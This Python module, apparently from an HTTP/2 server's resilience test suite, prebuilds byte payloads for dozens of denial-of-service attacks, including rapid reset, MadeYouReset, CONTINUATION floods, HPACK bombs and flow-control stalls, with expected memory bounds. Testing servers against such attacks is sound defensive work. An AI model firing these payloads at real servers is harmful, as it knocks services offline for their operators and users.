"""What attackers send: prepared bytes, so that sending them costs them next to nothing."""

import dataclasses
from collections.abc import Callable

from frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PAYLOAD_MAX, PING, PREFACE, PRIORITY, SETTINGS,
    WINDOW_MAX, frame, get, hello, indexed, kept, literal, number, post, request, reset, settings, window_update,
)

# Routed to an origin of its own.
PATH = b"/attack"
LARGE = b"/attack?bytes=1m"
SLOW = b"/attack?delay=30s"
# Ids of streams that a connection uses; then the attacker opens another connection.
STREAMS = 10_000
# How long a block of frames is that is sent again and again.
BLOCK_BYTES = 64 * 1024


@dataclasses.dataclass(frozen=True)
class Attack:
    """One way to attack. The bytes are made when they are asked for."""

    name: str
    # What a connection begins with.
    opening: Callable[[], bytes]
    # Sent after it: again and again, or once.
    body: Callable[[], bytes] = bytes
    again: bool = True
    connections: int = 50
    # Whether answers are read.
    reads: bool = True
    # How many requests each connection holds that wait for something.
    holds: int = 0

    @property
    def grows_kib(self):
        """What the memory may grow by meanwhile, in KiB: a stream may cost 32 (docs/specification.md)."""
        return 16 * 1024 + self.connections * self.holds * 32


def count(data):
    """How many frames these bytes are."""
    at = frames = 0
    while at + 9 <= len(data):
        at += 9 + int.from_bytes(data[at:at + 3], "big")
        frames += 1
    return frames


def block(*frames):
    """These frames over and over, as many as fit."""
    once = b"".join(frames)
    return once * max(1, BLOCK_BYTES // len(once))


def streams(make, first=1, count=STREAMS):
    """What `make` returns for each id of a stream."""
    return b"".join(make(stream) for stream in range(first, first + 2 * count, 2))


def broken(stream):
    """A request, and what has us reset its stream: another fault for each (CVE-2025-8671)."""
    faults = (
        lambda: post(stream, PATH) + window_update(stream, 0),
        lambda: get(stream, SLOW) + frame(DATA, 0, stream, b"x"),
        lambda: post(stream, PATH) + window_update(stream, WINDOW_MAX),
        lambda: post(stream, PATH) + frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\0"),
        lambda: post(stream, PATH, literal(28, b"1")) + frame(DATA, END_STREAM, stream, b"xx"),
        lambda: post(stream, PATH) + frame(PRIORITY, 0, stream, b"\0"),
        lambda: get(stream, SLOW) + frame(HEADERS, END_STREAM | END_HEADERS, stream, literal(b"a", b"b")),
    )
    return faults[stream // 2 % len(faults)]()


def short(stream, tail=b""):
    """A request in five bytes, once the table has its path and authority."""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, indexed(2) + indexed(6) + indexed(62) + indexed(63) + tail)


LEARN = frame(
    HEADERS, END_STREAM | END_HEADERS, 1, indexed(2) + indexed(6) + kept(1, b"localhost") + kept(4, PATH)
)
# A field as large as the table.
BOMB = kept(b"b" * 4000, b"")
FIRST = 62
# 1.6 times as long when decoded.
HUFFMAN = number(7, 128, 15_000) + b"\0" * 15_000


def headers(block):
    """The same header block for each stream."""
    return lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


def headers_with(fields):
    return headers(request(PATH) + fields)


def held(stream):
    """A request that the origin answers late."""
    return get(stream, SLOW)


def split(stream):
    """A header block in as many frames as it may come in."""
    empty = frame(CONTINUATION, 0, stream) * 31
    return frame(HEADERS, END_STREAM, stream, request(PATH)) + empty + frame(CONTINUATION, END_HEADERS, stream)


def resized(stream):
    """Empties the table, and fills it."""
    updates = number(5, 32, 0) + number(5, 32, 4096)
    return headers(updates + request(PATH) + kept(b"a" * 2000, b""))(stream)


def mixed(stream):
    """A little of everything, so that no kind alone is much: of this stream and the one after it."""
    parts = get(stream, PATH) + frame(PING, 0, 0, b"attacked") + frame(SETTINGS, 0, 0)
    parts += frame(PRIORITY, 0, stream, b"\0\0\0\0\0") + window_update(0, 1) + frame(0xF0, 0, 0)
    parts += post(stream + 2, PATH) + frame(DATA, 0, stream + 2) * 3
    return parts + (reset(stream + 2) if stream % 8 == 5 else frame(DATA, END_STREAM, stream + 2))


def saying(opening, *more):
    """An opening: what a connection begins with."""
    return lambda: opening + b"".join(part() if callable(part) else part for part in more)


def again(*frames):
    return lambda: block(*frames)


def each(make, first=1, count=STREAMS):
    return lambda: streams(make, first, count)


HELLO = saying(hello())
PINGS = again(frame(PING, 0, 0, b"attacked"))
FULL = saying(hello(), each(held, count=128))
BEGUN = saying(hello() + frame(HEADERS, END_STREAM, 1, request(PATH)))
UPLOAD = saying(hello() + post(1, PATH))
LARGE_ANSWERS = each(lambda stream: get(stream, LARGE), count=100)
MANY, HEAVY = 100_000, 200

ATTACKS = (
    # Streams that come to nothing.
    Attack("rapid reset", HELLO, each(lambda stream: get(stream, PATH) + reset(stream)), False),
    Attack("rapid reset of refused streams", FULL, each(lambda stream: get(stream, PATH) + reset(stream), 257), False, holds=128),
    Attack("MadeYouReset", HELLO, each(broken), False),
    Attack("100 000 streams", saying(hello() + LEARN), each(short, 3, MANY), False, connections=4),
    Attack("100 000 streams refused", FULL, each(lambda stream: get(stream, PATH), 257, MANY), False, connections=4, holds=128),
    Attack("malformed requests", HELLO, each(headers_with(literal(b"A", b""))), False),
    Attack("slow answers", saying(hello(), each(held, count=100)), connections=50, holds=100),
    # Header blocks.
    Attack("CONTINUATION, endless", BEGUN, again(frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100) * (PAYLOAD_MAX // 104)))),
    Attack("CONTINUATION, empty", BEGUN, again(frame(CONTINUATION, 0, 1))),
    Attack("CONTINUATION, empty, ended", HELLO, each(split), False),
    Attack("header block held", saying(hello() + frame(HEADERS, END_STREAM, 1, b"\0" * 16_000)
                                       + frame(CONTINUATION, 0, 1, b"\0" * 16_000)), connections=200),
    Attack("HPACK, one entry 11 000 times", HELLO, each(headers_with(BOMB + indexed(FIRST) * 11_000), count=HEAVY), False),
    Attack("HPACK, entries evicted", HELLO, each(headers_with(BOMB + (number(6, 64, FIRST) + b"\0") * 5500), count=HEAVY), False),
    Attack("HPACK, table sizes", HELLO, each(resized, count=2000), False),
    Attack("HPACK, table sizes only", HELLO, each(headers(number(5, 32, 0) * 5000), count=HEAVY), False),
    Attack("HPACK, Huffman", HELLO, each(headers_with(b"\0" + HUFFMAN + b"\0"), count=HEAVY), False),
    # Frames without a message.
    Attack("PING", HELLO, PINGS),
    Attack("PING, answers unread", HELLO, PINGS, reads=False),
    Attack("SETTINGS", HELLO, again(frame(SETTINGS, 0, 0))),
    Attack("SETTINGS, windows of 100 streams", saying(hello(), each(held, count=100)),
           again(settings(window=0), settings(window=1)), holds=100),
    Attack("PRIORITY", HELLO, again(frame(PRIORITY, 0, 1, b"\0\0\0\0\0"))),
    Attack("WINDOW_UPDATE", saying(PREFACE + settings()), again(window_update(0, 1))),
    Attack("unknown frames", HELLO, again(frame(0xF0, 0, 0))),
    Attack("empty DATA", UPLOAD, again(frame(DATA, 0, 1))),
    Attack("DATA of 1 byte", UPLOAD, again(frame(DATA, 0, 1, b"x"))),
    Attack("DATA on a stream we reset", saying(hello() + held(1)), again(frame(DATA, 0, 1, b"x"))),
    Attack("mixed", HELLO, lambda: b"".join(map(mixed, range(1, 4 * STREAMS, 4))), False),
    Attack("mixed, 200 connections", HELLO, lambda: b"".join(map(mixed, range(1, 4 * STREAMS, 4))), False, 200),
    # Answers that nobody takes.
    Attack("windows of 0", saying(hello(0), LARGE_ANSWERS), connections=20, holds=100),
    Attack("answers unread", saying(hello(), LARGE_ANSWERS), connections=20, reads=False, holds=100),
    Attack("windows by the byte", saying(hello(0), LARGE_ANSWERS), each(lambda stream: window_update(stream, 1), count=100), holds=100),
    Attack("connection window by the byte", saying(PREFACE + settings(window=WINDOW_MAX), LARGE_ANSWERS),
           again(window_update(0, 1)), holds=100),
    # Too little.
    # A head that has not come whole may hold a block of 64 KiB.
    Attack("half a preface", saying(PREFACE[:12]), connections=1000, holds=2),
    Attack("preface only", saying(PREFACE), connections=1000),
    Attack("half a SETTINGS frame", saying(PREFACE + settings(window=1, table=0)[:13]), connections=1000),
    Attack("idle connections", HELLO, connections=1000),
)


def find(name):
    return next(attack for attack in ATTACKS if attack.name == name)
